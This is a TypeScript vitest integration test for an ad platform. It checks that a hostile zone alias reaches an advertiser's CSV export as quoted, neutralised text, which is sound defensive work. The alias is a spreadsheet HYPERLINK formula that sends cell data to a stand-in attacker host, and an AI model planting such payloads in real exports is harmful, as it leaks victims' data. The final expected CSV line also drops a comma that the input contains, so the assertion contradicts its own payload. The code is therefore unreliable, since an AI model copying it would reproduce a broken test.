import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '@cryptads/contract/csv';
import type { Report } from '@cryptads/contract/reports';
import { campaigns } from '../../db/schema/campaigns';
import { websites, zones } from '../../db/schema/websites';
import { body, loginAs } from '../../testing/helpers';
import { createTestApp, type TestApp } from '../../testing/test-app';
import { insertRollups } from './test-helpers';

const ZONE = 'e5e5e5e5e5e5e5e5';
const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Get bonus")';
const today = new Date().toISOString().slice(0, 10);

/**
 * A publisher's zone alias reaches an advertiser's report export. The alias is
 * set through the publisher's API, read back through the advertiser's report by zone, and
 * written by the exports' one CSV writer (the contract's, which the web's Export CSV uses).
 */
describe("a publisher's zone alias in an advertiser's CSV export", () => {
  let app: TestApp;
  let advertiser: Awaited<ReturnType<typeof loginAs>>;
  let publisher: Awaited<ReturnType<typeof loginAs>>;
  let websiteId = 0;

  beforeAll(async () => {
    app = await createTestApp();
    advertiser = await loginAs(app, 'advertiser');
    publisher = await loginAs(app, 'publisher');
    const { db } = app.ctx;
    const [site] = await db
      .insert(websites)
      .values({
        ownerId: publisher.user.id,
        domain: 'pub.example',
        url: 'https://pub.example/',
        name: 'pub.example',
        status: 1,
        verificationToken: 'pub.example',
      })
      .returning();
    websiteId = site?.id ?? 0;
    const [zone] = await db
      .insert(zones)
      .values({ websiteId, unique: ZONE, alias: 'Top', format: 1, size: '300x250', status: 1 })
      .returning();
    const [campaign] = await db
      .insert(campaigns)
      .values({
        ownerId: advertiser.user.id,
        name: 'Spring',
        kind: 'display',
        status: 1,
        priceMicros: 500_000n,
        landingUrl: 'https://example.com/',
        dailyBudgetMicros: 100_000_000n,
        category: 1,
        permalink: 'spring-csv',
      })
      .returning();
    await insertRollups(db, [
      {
        hour: new Date(`${today}T00:00:00.000Z`),
        campaignId: campaign?.id ?? 0,
        zoneId: zone?.id ?? 0,
        websiteId,
        advertiserId: advertiser.user.id,
        publisherId: publisher.user.id,
        country: 'DE',
        os: 'Windows',
        browser: 'Chrome',
        impressions: 1000,
        clicks: 10,
        costMicros: 500_000n,
        earningsMicros: 350_000n,
      },
    ]);
  });
  afterAll(async () => {
    await app.closeAll();
  });

  it('reaches the advertiser as data, and the export writes it as text, not a formula', async () => {
    const renamed = await app.inject({
      method: 'PUT',
      url: `/api/websites/${websiteId}`,
      headers: publisher.headers,
      payload: { aliases: { [ZONE]: HOSTILE } },
    });
    expect(renamed.statusCode, renamed.body).toBe(200);
    const stored = await app.ctx.db.select().from(zones).where(eq(zones.unique, ZONE));
    expect(stored[0]?.alias).toBe(HOSTILE);

    const res = await app.inject({
      method: 'GET',
      url: `/api/reports/all/all?reportBy=zone&startDate=${today}&endDate=${today}`,
      headers: advertiser.headers,
    });
    expect(res.statusCode, res.body).toBe(200);
    const report = body<Report>(res).response;
    expect(report.rows.map((r) => r.label)).toEqual([`${HOSTILE} · pub.example`]);

    const csv = toCsv(
      ['Zone', 'Impressions', 'Clicks', 'Cost'],
      report.rows.map((r) => [r.label, r.impressions, r.clicks, r.money]),
    );
    const [, line] = csv.split('\r\n');
    // Quoted (RFC 4180), led by a single quote: a spreadsheet shows the text, runs nothing.
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1""Get bonus"") · pub.example",1000,10,0.5`);
    expect(line?.startsWith('=')).toBe(false);
  });
});
